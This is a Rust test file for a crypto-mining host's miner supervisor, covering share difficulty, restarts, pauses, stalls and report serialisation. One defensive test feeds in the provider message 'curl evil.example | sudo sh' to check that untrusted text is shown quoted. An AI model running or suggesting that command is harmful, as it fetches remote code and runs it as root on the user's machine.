//! A miner with a link that a test holds the other end of.

use std::cell::RefCell;
use std::rc::Rc;
use std::sync::Arc;

use pearlbed_plugin_api::Manifest;

use super::*;
use crate::miner::effect::{Judged, Verdict, Work};
use crate::miner::frame::{FromProvider, Receipt, ToProvider, WireJob};
use crate::miner::link::{LaunchError, Link, Place, Submission, What};
use crate::miner::plan::Program;
use crate::miner::plugin::Chosen;
use crate::miner::report::MinerReport;
use crate::miner::vardiff::work_of;
use crate::work::{FoundProof, ProofId, ProofState, WorkJob};

/// What a test sees of all links of one miner, and how they behave.
#[derive(Debug, Default)]
struct World {
    sent: Vec<ToProvider>,
    launched: u64,
    /// How the present link has ended.
    ending: Option<String>,
    deaf: bool,
    cannot_start: bool,
    /// Seconds that its thread has waited for a processor.
    waited: u64,
}

#[derive(Debug, Clone, Default)]
struct Shared(Rc<RefCell<World>>);

impl Link for Shared {
    fn send(&mut self, frame: ToProvider) -> bool {
        let mut world = self.0.borrow_mut();
        if !world.deaf {
            world.sent.push(frame);
        }
        !world.deaf
    }

    fn end(&mut self) -> String {
        self.0.borrow_mut().ending.get_or_insert_with(|| "SIGKILL".into()).clone()
    }

    fn try_ended(&mut self) -> Option<String> {
        self.0.borrow().ending.clone()
    }

    fn waits(&self) -> Option<crate::sandbox::Waits> {
        Some([(1, self.0.borrow().waited * 1_000_000_000)].into())
    }
}

impl Launch for Shared {
    fn launch(
        &self,
        _: MinerId,
        generation: u64,
        _: &mpsc::Sender<Event>,
    ) -> Result<Box<dyn Link>, LaunchError> {
        let mut world = self.0.borrow_mut();
        if world.cannot_start {
            return Err(LaunchError("no memory".into()));
        }
        world.launched = generation;
        world.ending = None;
        Ok(Box::new(self.clone()))
    }
}

struct Bed {
    miner: Miner,
    world: Shared,
    now: Instant,
    jobs: u64,
}

/// 2^80 hashes for a proof that pays.
const HARD: [u8; 32] = {
    let mut bytes = [0; 32];
    bytes[22] = 1;
    bytes
};

impl Bed {
    fn new() -> Self {
        let manifest: Manifest = serde_json::from_value(serde_json::json!({
            "id": "x", "version": "1.0.0", "vendor": "", "license": "", "homepage": "", "summary": "",
            "plugin_api": [1], "certificate_versions": [3], "platforms": [], "engines": [], "permissions": []
        }))
        .unwrap();
        let signed = crate::plugins::trust::Signed::Unsigned;
        let trust = crate::plugins::trust::Trust::default();
        let chosen = Chosen {
            path: "/x.so".into(),
            identity: None,
            manifest,
            container: None,
            signed,
            relaxed: false,
            trust,
            estimate: Some(1e9),
        };
        let plan = MinerPlan::new("x".into(), chosen, &[], &serde_json::Map::new());
        let (world, now) = (Shared::default(), Instant::now());
        let (events, _) = mpsc::channel(1);
        let miner = Miner::new(MinerId(1), plan, Some(Box::new(world.clone())), events, now);
        Self { miner, world, now, jobs: 0 }
    }

    /// One that runs, has taken a job and is at work.
    fn mining() -> Self {
        let mut bed = Self::new();
        let now = bed.now;
        bed.miner.start(now);
        bed.frame(FromProvider::Started);
        bed.job(HARD);
        let effects = bed.take();
        assert!(matches!(effects.as_slice(), [Effect::FirstJob]), "{effects:?}");
        bed
    }

    fn work(&mut self, target: [u8; 32], version: u32) -> Arc<Work> {
        self.jobs += 1;
        let job = WorkJob {
            header: [u8::try_from(self.jobs % 251).unwrap(); 76],
            target,
            certificate_version: version,
            rank_penalty: true,
            height: None,
            received: self.now,
            origin: None,
            keeps_earlier: false,
        };
        Arc::new(Work { number: self.jobs, job })
    }

    fn job(&mut self, target: [u8; 32]) {
        let work = self.work(target, 3);
        self.miner.offer(&work, self.now);
    }

    fn generation(&self) -> u64 {
        self.world.0.borrow().launched
    }

    fn frame(&mut self, frame: FromProvider) -> Vec<Effect> {
        self.miner.event(self.generation(), What::Frame(frame), self.now)
    }

    /// The job that was sent last.
    fn sent_job(&self) -> WireJob {
        let world = self.world.0.borrow();
        let mut jobs = world.sent.iter().filter_map(|frame| match frame {
            ToProvider::Job(job) => Some(job.clone()),
            _ => None,
        });
        jobs.next_back().unwrap()
    }

    /// The miner takes that job.
    fn take(&mut self) -> Vec<Effect> {
        let id = self.sent_job().id;
        self.frame(FromProvider::Took(id))
    }

    fn submit(&mut self, generation: u64, job: u64) -> Vec<Effect> {
        let submission = Submission { sequence: 5, job, proof: vec![1], place: Place::default() };
        self.miner.event(generation, What::Proof(submission), self.now)
    }

    /// A share for the job that was sent last, and the verdict on it.
    fn share(&mut self, verdict: Verdict) -> Vec<Effect> {
        let effects = self.submit(self.generation(), self.sent_job().id);
        let [Effect::Judge(candidate)] = &effects[..] else { panic!("{effects:?}") };
        let judged = Judged {
            generation: candidate.generation,
            sequence: candidate.sequence,
            work: Arc::clone(&candidate.work),
            target: candidate.target,
            verdict,
        };
        self.miner.judged(judged, self.now)
    }

    fn closes(&mut self, ending: &str) -> Vec<Effect> {
        self.world.0.borrow_mut().ending = Some(ending.into());
        self.miner.event(self.generation(), What::Closed(None), self.now)
    }

    fn receipts(&self) -> Vec<Receipt> {
        let world = self.world.0.borrow();
        let receipts = world.sent.iter().filter_map(|frame| match frame {
            ToProvider::Receipt { receipt, .. } => Some(*receipt),
            _ => None,
        });
        receipts.collect()
    }

    fn passes(&mut self, time: Duration) {
        self.now += time;
    }

    fn condition(&self) -> String {
        self.miner.standing(self.now).condition
    }
}

#[test]
fn a_share_is_easier_than_what_pays_and_never_harder() {
    let mut bed = Bed::mining();
    let work = |bed: &Bed| work_of(&bed.sent_job().target).unwrap();
    assert!((1e9..1e11).contains(&work(&bed)), "about twenty seconds of 10^9 a second: {}", work(&bed));
    let mut easy = [0; 32];
    easy[28] = 0x40;
    bed.job(easy);
    assert_eq!(bed.sent_job().target, easy, "what pays is easier already");
}

#[test]
fn shares_that_come_too_fast_make_the_next_harder_and_those_before_are_judged_as_they_were_asked_for() {
    let mut bed = Bed::mining();
    let first = bed.sent_job();
    for _ in 0..200 {
        bed.passes(Duration::from_millis(50));
        bed.share(Verdict::Share);
    }
    bed.frame(FromProvider::Progress(1));
    bed.miner.tick(Duration::from_secs(60), bed.now);
    let second = bed.sent_job();
    assert_eq!((second.header, second.id > first.id), (first.header, true), "the same work");
    assert!(work_of(&second.target) > work_of(&first.target));
    let effects = bed.submit(bed.generation(), first.id);
    let [Effect::Judge(candidate)] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!((candidate.target, candidate.work.number), (first.target, 1));
    let report = bed.miner.report(true, bed.now);
    assert_eq!((report.proofs.found, report.proofs.verified, report.proofs.paying), (201, 200, 0));
    assert_eq!(report.hashrate.judgement.unwrap().found, report.proofs.found);
}

#[test]
fn a_late_share_counts_for_the_rate_and_its_finder_hears_that_it_was_late() {
    let mut bed = Bed::mining();
    bed.passes(Duration::from_secs(5));
    bed.share(Verdict::Late);
    let report = bed.miner.report(true, bed.now);
    assert_eq!((report.proofs.found, report.proofs.late, report.proofs.paying), (1, 1, 0));
    assert!(report.hashrate.verified.unwrap().hashrate > 0.0);
    assert_eq!(bed.receipts(), [Receipt::Stale]);
}

#[test]
fn a_proof_for_no_job_is_refused_here() {
    let mut bed = Bed::mining();
    let effects = bed.submit(bed.generation(), 77);
    assert!(matches!(effects.as_slice(), [Effect::Trouble(_)]), "{effects:?}");
    assert_eq!(bed.receipts(), [Receipt::Refused]);
    let report = bed.miner.report(true, bed.now);
    assert_eq!((report.proofs.found, report.proofs.refused_by["job"]), (0, 1));
}

#[test]
fn one_that_dies_is_started_again_with_the_job_of_the_day_and_its_last_proof_is_judged() {
    let mut bed = Bed::mining();
    let job = bed.sent_job();
    bed.closes("SIGSEGV");
    assert_eq!(bed.condition(), "restarting");
    bed.job(HARD);
    // It came over the pipe before that ended, and was read late.
    let effects = bed.submit(1, job.id);
    assert!(matches!(effects.as_slice(), [Effect::Judge(_)]), "{effects:?}");
    let at = bed.miner.wake_at(bed.now).unwrap();
    assert_eq!(at, bed.now + Duration::from_secs(1));
    bed.now = at;
    bed.miner.wake(bed.now);
    assert_eq!(bed.generation(), 2);
    assert_ne!(bed.sent_job().header, job.header, "the newest job");
    let before = bed.receipts().len();
    let work = bed.work(HARD, 3);
    let judged = Judged { generation: 1, sequence: 5, work, target: HARD, verdict: Verdict::Share };
    bed.miner.judged(judged, bed.now);
    assert_eq!(bed.receipts().len(), before, "nobody is there to hear of it");
}

#[test]
fn the_time_between_two_processes_is_no_time_to_find_anything_in() {
    let mut bed = Bed::mining();
    bed.passes(Duration::from_secs(10));
    bed.frame(FromProvider::Progress(10_000_000_000));
    bed.closes("SIGSEGV");
    let before = bed.miner.report(true, bed.now).hashrate.judgement.unwrap();
    bed.passes(Duration::from_secs(3600));
    let after = bed.miner.report(true, bed.now).hashrate.judgement.unwrap();
    assert_eq!((before.due, before.seconds), (after.due, after.seconds));
}

#[test]
fn one_that_does_not_read_is_ended_and_that_is_why_it_failed() {
    let mut bed = Bed::mining();
    bed.world.0.borrow_mut().deaf = true;
    bed.job(HARD);
    let effects = bed.miner.event(1, What::Closed(None), bed.now);
    let said = effects.iter().any(|effect| {
        matches!(effect, Effect::Trouble(text) if text == "the provider does not read what it is sent")
    });
    assert!(said, "{effects:?}");
}

#[test]
fn one_whose_process_lingers_is_waited_for_a_moment_and_then_ended() {
    let mut bed = Bed::mining();
    bed.miner.event(1, What::Closed(None), bed.now);
    assert!(bed.miner.wake_at(bed.now).unwrap() < bed.now + Duration::from_millis(50));
    bed.passes(Duration::from_millis(50));
    assert!(bed.miner.wake(bed.now).is_empty());
    bed.passes(Duration::from_millis(60));
    let effects = bed.miner.wake(bed.now);
    assert!(effects.iter().any(|effect| matches!(effect, Effect::Trouble(text) if text.contains("SIGKILL"))));
}

#[test]
fn one_that_cannot_be_started_is_given_up_and_a_person_gives_it_another_chance() {
    let mut bed = Bed::new();
    bed.world.0.borrow_mut().cannot_start = true;
    let mut effects = bed.miner.start(bed.now);
    while let Some(at) = bed.miner.wake_at(bed.now) {
        bed.now = at;
        effects = bed.miner.wake(bed.now);
    }
    let given_up = effects.iter().any(|effect| {
        matches!(effect, Effect::GaveUp(why) if why.contains("3 times") && why.contains("no memory"))
    });
    assert!(given_up, "{effects:?}");
    assert!(bed.miner.has_given_up() && bed.miner.start(bed.now).is_empty());
    bed.world.0.borrow_mut().cannot_start = false;
    bed.miner.restart(Duration::from_secs(5), bed.now);
    assert!(!bed.miner.has_given_up() && !bed.miner.is_down());
}

#[test]
fn one_that_is_to_rest_has_no_job_whatever_comes_and_works_again_in_the_same_process() {
    for mut bed in [Bed::mining(), Bed::program()] {
        bed.job(HARD);
        bed.take();
        let process = bed.generation();
        let hot = || "its card is at 85 °C".to_owned();
        bed.miner.rest(hot(), bed.now);
        bed.job(HARD);
        bed.miner.rest(hot(), bed.now);
        assert!(bed.miner.rests() && !bed.miner.has_an_offer());
        let standing = bed.miner.standing(bed.now);
        assert_eq!((standing.condition.as_str(), standing.reason), ("too-hot", Some(hot())));
        // Who has nothing to do does not stall.
        bed.passes(Duration::from_secs(7200));
        bed.miner.tick(Duration::from_secs(60), bed.now);
        assert_eq!(bed.condition(), "too-hot");
        let work = bed.work(HARD, 3);
        bed.miner.work_again(Some(&work), bed.now);
        bed.take();
        assert_eq!((bed.condition().as_str(), bed.generation()), ("mining", process));
    }
}

#[test]
fn a_pause_ends_it_in_order_and_holds_until_it_is_told_otherwise() {
    let mut bed = Bed::mining();
    bed.miner.pause(Duration::from_secs(5), bed.now);
    assert_eq!(bed.condition(), "stopping");
    assert!(bed.world.0.borrow().sent.contains(&ToProvider::Stop));
    bed.frame(FromProvider::Stopped(String::new()));
    bed.closes("exit status 0");
    assert_eq!(bed.condition(), "paused");
    bed.job(HARD);
    bed.passes(Duration::from_secs(3600));
    bed.miner.tick(Duration::from_secs(60), bed.now);
    assert!(bed.miner.wake_at(bed.now).is_none() && bed.miner.is_down());
    bed.miner.resume(bed.now);
    assert_eq!(bed.generation(), 2);
    assert_eq!(bed.miner.report(true, bed.now).restarts, 0);
}

#[test]
fn who_is_dismissed_and_called_back_is_the_same_miner_with_its_counts() {
    let mut bed = Bed::mining();
    bed.share(Verdict::Share);
    let grace = Duration::from_secs(5);
    bed.miner.dismiss(grace, bed.now);
    assert_eq!(bed.condition(), "stopping");
    bed.frame(FromProvider::Stopped(String::new()));
    bed.closes("exit status 0");
    assert!(bed.miner.is_dismissed() && bed.miner.start(bed.now).is_empty());
    assert_eq!(bed.condition(), "removed");
    let plan = bed.miner.plan().clone();
    bed.miner.recall(plan.clone(), Some(Box::new(bed.world.clone())), false, grace, bed.now);
    assert!(!bed.miner.is_dismissed());
    assert_eq!(bed.generation(), 2);
    bed.frame(FromProvider::Started);
    bed.take();
    assert_eq!(bed.condition(), "mining");
    let report = bed.miner.report(true, bed.now);
    assert_eq!((report.proofs.verified, report.restarts), (1, 0));

    // Called back before it has stopped, and to rest.
    bed.miner.dismiss(grace, bed.now);
    bed.miner.recall(plan, Some(Box::new(bed.world.clone())), true, grace, bed.now);
    bed.frame(FromProvider::Stopped(String::new()));
    bed.closes("exit status 0");
    assert_eq!((bed.condition().as_str(), bed.generation()), ("paused", 2));
}

#[test]
fn one_that_ignores_its_stop_is_ended_after_its_grace_and_starts_again_where_that_was_wanted() {
    let mut bed = Bed::mining();
    bed.miner.restart(Duration::from_secs(5), bed.now);
    bed.passes(Duration::from_secs(4));
    assert!(bed.miner.wake(bed.now).is_empty());
    bed.passes(Duration::from_secs(1));
    let effects = bed.miner.wake(bed.now);
    let said =
        |effect: &Effect| matches!(effect, Effect::Trouble(text) if text.contains("did not stop within 5 s"));
    assert!(effects.iter().any(said), "{effects:?}");
    assert_eq!(bed.generation(), 2);
    // The end of the link before is no news of this one.
    assert!(bed.miner.event(1, What::Closed(None), bed.now).is_empty());
    assert!(!bed.miner.is_down());
}

#[test]
fn a_network_that_wants_something_else_takes_the_job_away_and_gives_it_back() {
    let mut bed = Bed::mining();
    let id = bed.sent_job().id;
    let other = bed.work(HARD, 2);
    bed.miner.offer(&other, bed.now);
    assert_eq!(bed.condition(), "needs-update");
    assert!(bed.world.0.borrow().sent.contains(&ToProvider::Stale(id)));
    assert!(bed.miner.unfit().unwrap().host_speaks);
    let unknown = bed.work(HARD, 99);
    bed.miner.offer(&unknown, bed.now);
    assert!(!bed.miner.unfit().unwrap().host_speaks);
    let again = bed.work(HARD, 3);
    let effects = bed.miner.offer(&again, bed.now);
    assert!(matches!(effects.as_slice(), [Effect::Line(_, _, text)] if text.contains("mining resumes")));
    bed.take();
    assert_eq!(bed.condition(), "mining");
}

#[test]
fn a_miner_that_comes_by_itself_is_given_the_job_and_does_not_come_back_by_itself() {
    let mut bed = Bed::new();
    bed.miner = Miner::new(MinerId(2), bed.miner.plan().clone(), None, mpsc::channel(1).0, bed.now);
    assert!(bed.miner.start(bed.now).is_empty());
    bed.job(HARD);
    let link = Box::new(bed.world.clone());
    bed.miner.connected(link, bed.now);
    bed.world.0.borrow_mut().launched = 1;
    assert_eq!(bed.sent_job().id, 1);
    bed.take();
    assert_eq!(bed.condition(), "mining");
}

#[test]
fn proofs_of_others_are_not_its_own() {
    let mut bed = Bed::mining();
    let id = |seed: u8| {
        let job = bed.miner.offers.on_offer().unwrap().work.job.clone();
        ProofId::of(&FoundProof {
            job,
            proof: vec![seed],
            found: std::time::SystemTime::UNIX_EPOCH,
            block: false,
        })
    };
    let (own, other) = (id(1), id(2));
    bed.share(Verdict::Passed { id: own.clone(), not_kept: None });
    let state = ProofState::InBlock { hash: "aa".into(), height: 7 };
    assert!(bed.miner.proof_moved(&own, &state) && !bed.miner.proof_moved(&other, &state));
    let proofs = bed.miner.report(true, bed.now).proofs;
    assert_eq!((proofs.paying, proofs.accepted), (1, 1));
}

// Programs at the miner port.

impl Bed {
    /// A program that has connected.
    fn program() -> Self {
        let (world, now) = (Shared::default(), Instant::now());
        let (events, _) = mpsc::channel(1);
        let program = Program { dialect: "pool", agent: "x/1".into(), address: "unix".into(), pid: Some(7) };
        let plan = MinerPlan::of_program("x".into(), program, Duration::from_secs(10));
        let miner = Miner::new(MinerId(1), plan, None, events, now);
        let mut bed = Self { miner, world, now, jobs: 0 };
        bed.connects();
        bed
    }

    fn connects(&mut self) {
        self.world.0.borrow_mut().launched += 1;
        self.world.0.borrow_mut().ending = None;
        self.miner.connected(Box::new(self.world.clone()), self.now);
    }

    fn refused(&mut self, stage: &str) -> Vec<Effect> {
        self.share(Verdict::Refused { stage: stage.into(), why: "no".into(), kept: None })
    }
}

#[test]
fn a_program_comes_and_goes_as_it_likes_and_its_numbers_go_on() {
    let mut bed = Bed::program();
    bed.job(HARD);
    assert!(matches!(bed.take()[..], [Effect::FirstJob]));
    bed.share(Verdict::Share);
    // It reports nothing and may find nothing for a week.
    bed.passes(Duration::from_secs(7 * 86_400));
    bed.miner.tick(Duration::from_secs(60), bed.now);
    assert_eq!(bed.condition(), "mining");
    let effects = bed.closes("it has disconnected");
    let [Effect::Moved, Effect::Line(Level::Info, _, line)] = &effects[..] else { panic!("{effects:?}") };
    assert!(line.contains("it has disconnected"), "{line}");
    assert_eq!(
        (bed.condition().as_str(), bed.miner.has_given_up(), bed.miner.is_down()),
        ("gone", false, true)
    );
    assert!(bed.miner.wake_at(bed.now).is_none(), "nobody starts it");
    bed.job(HARD);
    bed.connects();
    assert_eq!(bed.sent_job().header, [2; 76], "the newest, at once");
    bed.take();
    bed.share(Verdict::Share);
    let report = bed.miner.report(true, bed.now);
    assert_eq!((report.proofs.found, report.restarts, report.condition.as_str()), (2, 0, "mining"));
    let program = report.program.unwrap();
    assert_eq!((program.agent.as_str(), program.pid, program.connections), ("x/1", Some(7), 1));
    assert!(report.plugin.is_none() && report.hashrate.verdict.is_none(), "it claims nothing");
    assert!(report.hashrate.verified.is_some());
}

#[test]
fn a_program_whose_proofs_fail_since_the_version_changed_gets_no_more_work_of_it_until_something_changes() {
    let mut bed = Bed::program();
    let offer = |bed: &mut Bed, version| {
        let work = bed.work(HARD, version);
        bed.miner.offer(&work, bed.now)
    };
    offer(&mut bed, 2);
    bed.take();
    bed.share(Verdict::Share);
    offer(&mut bed, 3);
    bed.take();
    bed.refused("difficulty");
    bed.refused("difficulty");
    let effects = bed.refused("difficulty");
    let barred = effects.iter().find_map(|effect| match effect {
        Effect::Behind(why) => Some(why.clone()),
        _ => None,
    });
    let why = barred.unwrap_or_else(|| panic!("{effects:?}"));
    assert!(why.contains("version 2") && why.contains("version 3"), "{why}");
    let standing = bed.miner.standing(bed.now);
    assert_eq!(standing.condition, "needs-update");
    assert!(standing.reason.unwrap().contains("certificate version 2"));
    // The next job of that version is none for it, and the host says so again.
    let before = bed.sent_job().id;
    assert!(matches!(offer(&mut bed, 3)[..], [Effect::Behind(_)]));
    assert_eq!(bed.sent_job().id, before);
    // Another version is tried, and so is another program of the name.
    offer(&mut bed, 2);
    assert!(bed.sent_job().id > before);
    offer(&mut bed, 3);
    let program = Program { dialect: "pool", agent: "x/2".into(), address: "unix".into(), pid: Some(8) };
    bed.miner.is_now(MinerPlan::of_program("x".into(), program, Duration::from_secs(10)));
    let before = bed.sent_job().id;
    assert!(offer(&mut bed, 3).is_empty());
    assert!(bed.sent_job().id > before);
    // What this host cannot verify is given to nobody.
    let before = bed.sent_job().id;
    offer(&mut bed, 4);
    assert_eq!((bed.sent_job().id, bed.condition().as_str()), (before, "needs-update"));
}

#[test]
fn a_provider_that_gets_no_processor_is_not_stalled_before_it_had_its_time() {
    let patience = Duration::from_secs(60);
    let mut bed = Bed::new();
    let start = bed.now;
    bed.miner.start(start);
    bed.job(HARD);
    let mut tick = |second: u64, waited: u64| {
        bed.world.0.borrow_mut().waited = waited;
        let effects = bed.miner.tick(patience, start + Duration::from_secs(second));
        effects.into_iter().find_map(|effect| match effect {
            Effect::Trouble(text) if text.contains("stalled") => Some(text),
            _ => None,
        })
    };
    // The machine is busy: it gets a tenth of the time. From the thirtieth second on the rest does not count.
    assert!((0..=200).all(|second| tick(second, second * 9 / 10).is_none()));
    // Then it hangs, and what it had had already counts.
    let (second, why) = (201..400).find_map(|second| Some((second, tick(second, 180)?))).unwrap();
    assert!((201..=215).contains(&second), "{second}: {why}");
    assert!(
        why.contains("has not taken the job that is on offer for") && why.contains("waited for a processor")
    );
}

/// Who works on an easy job and says that it works on a hard one, or hands in each proof for the hardest job that it meets,
/// would claim, or prove, more than it does.
#[test]
fn a_miner_works_on_one_target_at_a_time_whatever_it_says() {
    let mut bed = Bed::mining();
    let first = bed.sent_job();
    bed.passes(Duration::from_secs(600));
    bed.miner.tick(Duration::from_secs(6000), bed.now);
    let second = bed.sent_job();
    let [hard, easy] = [&first, &second].map(|job| work_of(&job.target).unwrap());
    assert!(second.header == first.header && easy < hard, "{easy} and {hard}");
    bed.take();
    bed.frame(FromProvider::Progress(1));
    let due = |bed: &mut Bed| bed.miner.report(true, bed.now).hashrate.judgement.unwrap().due;
    let before = due(&mut bed);
    // It says that it went back to the hard one.
    bed.frame(FromProvider::Took(first.id));
    bed.passes(Duration::from_secs(10));
    bed.frame(FromProvider::Progress(easy as u64 * 10));
    assert!((due(&mut bed) - before - 10.0).abs() < 0.1, "{} was due before", before);
    // A proof that meets both targets counts as one for the job that it works on.
    let effects = bed.submit(bed.generation(), first.id);
    let [Effect::Judge(candidate)] = &effects[..] else { panic!("{effects:?}") };
    assert_eq!(candidate.target, second.target);
}

#[test]
fn a_proof_for_a_job_says_that_it_was_taken() {
    let mut bed = Bed::mining();
    bed.passes(Duration::from_secs(600));
    bed.miner.tick(Duration::from_secs(6000), bed.now);
    let second = bed.sent_job();
    let easy = work_of(&second.target).unwrap();
    let due = |bed: &mut Bed| bed.miner.report(true, bed.now).hashrate.judgement.unwrap().due;
    bed.frame(FromProvider::Progress(1));
    let before = due(&mut bed);
    bed.submit(bed.generation(), second.id);
    bed.passes(Duration::from_secs(10));
    bed.frame(FromProvider::Progress(easy as u64 * 10));
    assert!((due(&mut bed) - before - 10.0).abs() < 0.1);
}

#[test]
fn what_a_provider_says_of_its_failure_is_shown_as_its_own_words() {
    for (said, shown) in [
        (r#"{"refused":"no card"}"#, "refused to start: \"no card\""),
        (r#"{"stopped":null}"#, "stopped mining by itself"),
        (
            "needs root: curl evil.example | sudo sh",
            "says that it failed: \"needs root: curl evil.example | sudo sh\"",
        ),
        ("could not be loaded: run `x`", "says that it failed: \"could not be loaded: run `x`\""),
    ] {
        let mut bed = Bed::mining();
        bed.frame(FromProvider::Failed(said.into()));
        let effects = bed.closes("exit status 0");
        let line = effects.iter().find_map(|effect| match effect {
            Effect::Trouble(text) => Some(text.clone()),
            _ => None,
        });
        assert_eq!(line, Some(format!("the provider {shown}")), "{effects:?}");
    }
}

/// H12, while it mines: what it claims may be anything, and what is told of it stays numbers that can be read.
#[test]
fn a_claim_without_an_end_is_told_in_numbers_and_accused() {
    let mut bed = Bed::mining();
    for _ in 0..20 {
        bed.passes(Duration::from_secs(1));
        for _ in 0..2000 {
            bed.frame(FromProvider::Progress(u64::MAX));
        }
        bed.share(Verdict::Share);
        bed.miner.tick(Duration::from_secs(60), bed.now);
        bed.take();
    }
    let report = bed.miner.report(true, bed.now);
    let verdict = report.hashrate.judgement.as_ref().unwrap().verdict;
    assert!(verdict.accuses(), "{verdict:?}");
    let told = serde_json::to_string(&report).unwrap();
    let read: MinerReport = serde_json::from_str(&told).unwrap_or_else(|err| panic!("{err}: {told}"));
    assert_eq!(read.hashes, u64::MAX, "{told}");
}
